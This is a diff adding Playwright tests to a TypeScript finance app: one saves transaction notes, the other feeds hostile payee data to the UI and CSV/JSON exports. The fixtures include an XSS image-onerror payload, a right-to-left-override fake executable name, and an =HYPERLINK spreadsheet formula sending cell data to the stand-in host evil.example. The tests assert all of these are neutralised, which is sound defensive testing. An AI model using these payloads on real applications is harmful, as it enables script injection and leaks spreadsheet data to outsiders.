@@ -1,4 +1,5 @@
 import assert from 'node:assert/strict';
+import { readFileSync } from 'node:fs';
 import { after, before, describe, it, type TestContext } from 'node:test';
 import type { Browser } from 'playwright-core';
 import { alex as names } from '../../sim/household.ts';
@@ -120,4 +121,71 @@ describe('the transactions', () => {
     assert.equal(await rows(visitor).and(page.locator(':focus')).count(), 1);
     assert.doesNotMatch(page.url(), /tx=/);
   });
+
+  it('take notes, which are saved at Monzo', limit, async (t) => {
+    const { stage, visitor, lunch } = await enter(t);
+    await visitor.page.goto(`${stage.app().uiUrl}/#/transactions?tx=${lunch}`);
+    const dialog = visitor.page.getByRole('dialog', { name: 'Blue Door Coffee' });
+    const notes = dialog.getByLabel('Notes');
+    await notes.waitFor();
+    assert.equal(await notes.inputValue(), 'lunch with Sam #work');
+    await notes.fill('lunch with nobody');
+    await dialog.getByRole('button', { name: 'Save the notes' }).click();
+    await shows(visitor, 'The notes are saved.');
+    await visitor.press('Close');
+    await shows(visitor, 'lunch with nobody');
+    assert.equal(stage.bank.books.transactions.get(lunch)?.notes, 'lunch with nobody');
+  });
+
+  it('show and export whatever strangers write as text, and nothing else', limit, async (t) => {
+    const { stage, visitor } = await enter(t);
+    const { page } = visitor;
+    const name = `<img src=x onerror="document.title='owned'"> \u202Egnp.exe\u0000`;
+    const reference = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+    stage.bank.incomingPayment(names.current, { amount: 1, name, reference });
+    stage.bank.incomingPayment(names.current, {
+      amount: 2,
+      name: `${'long '.repeat(2_000)}end`,
+      reference: '',
+    });
+    await shows(visitor, /<img src=x onerror/);
+    await shows(visitor, /long long/);
+    await visitor.look('transactions-hostile');
+    await page
+      .getByText(/<img src=x/)
+      .first()
+      .click();
+    const dialog = page.getByRole('dialog');
+    await dialog.getByText('+£0.01').waitFor();
+    await dialog.getByText('Monzo’s own object').click();
+    await visitor.look('transaction-hostile');
+    await visitor.press('Close');
+    await page
+      .getByText(/long long/)
+      .first()
+      .click();
+    await page.getByRole('dialog').getByText('+£0.02').waitFor();
+    await visitor.look('transaction-long');
+    await visitor.press('Close');
+    assert.equal(await page.locator('img').count(), 0);
+    assert.doesNotMatch(await page.title(), /owned/);
+    assert.deepEqual(visitor.complaints, []);
+    const csv = await exported(visitor, 'CSV');
+    const json = await exported(visitor, 'JSON');
+    assert.ok(csv.includes('HYPERLINK'));
+    assert.doesNotMatch(csv, /(^|[,"\n])=HYPERLINK/);
+    const rows = JSON.parse(json) as readonly {
+      readonly description: string;
+      readonly amount_minor: number;
+    }[];
+    assert.ok(rows.some(({ amount_minor: amount }) => amount === 1));
+    assert.ok(json.includes('HYPERLINK'));
+  });
+
+  /** The file that a link gives. */
+  const exported = async ({ page }: Visitor, format: string): Promise<string> => {
+    const waiting = page.waitForEvent('download');
+    await page.getByRole('link', { name: `Export all that matches as ${format}` }).click();
+    return readFileSync(await (await waiting).path(), 'utf8');
+  };
 });
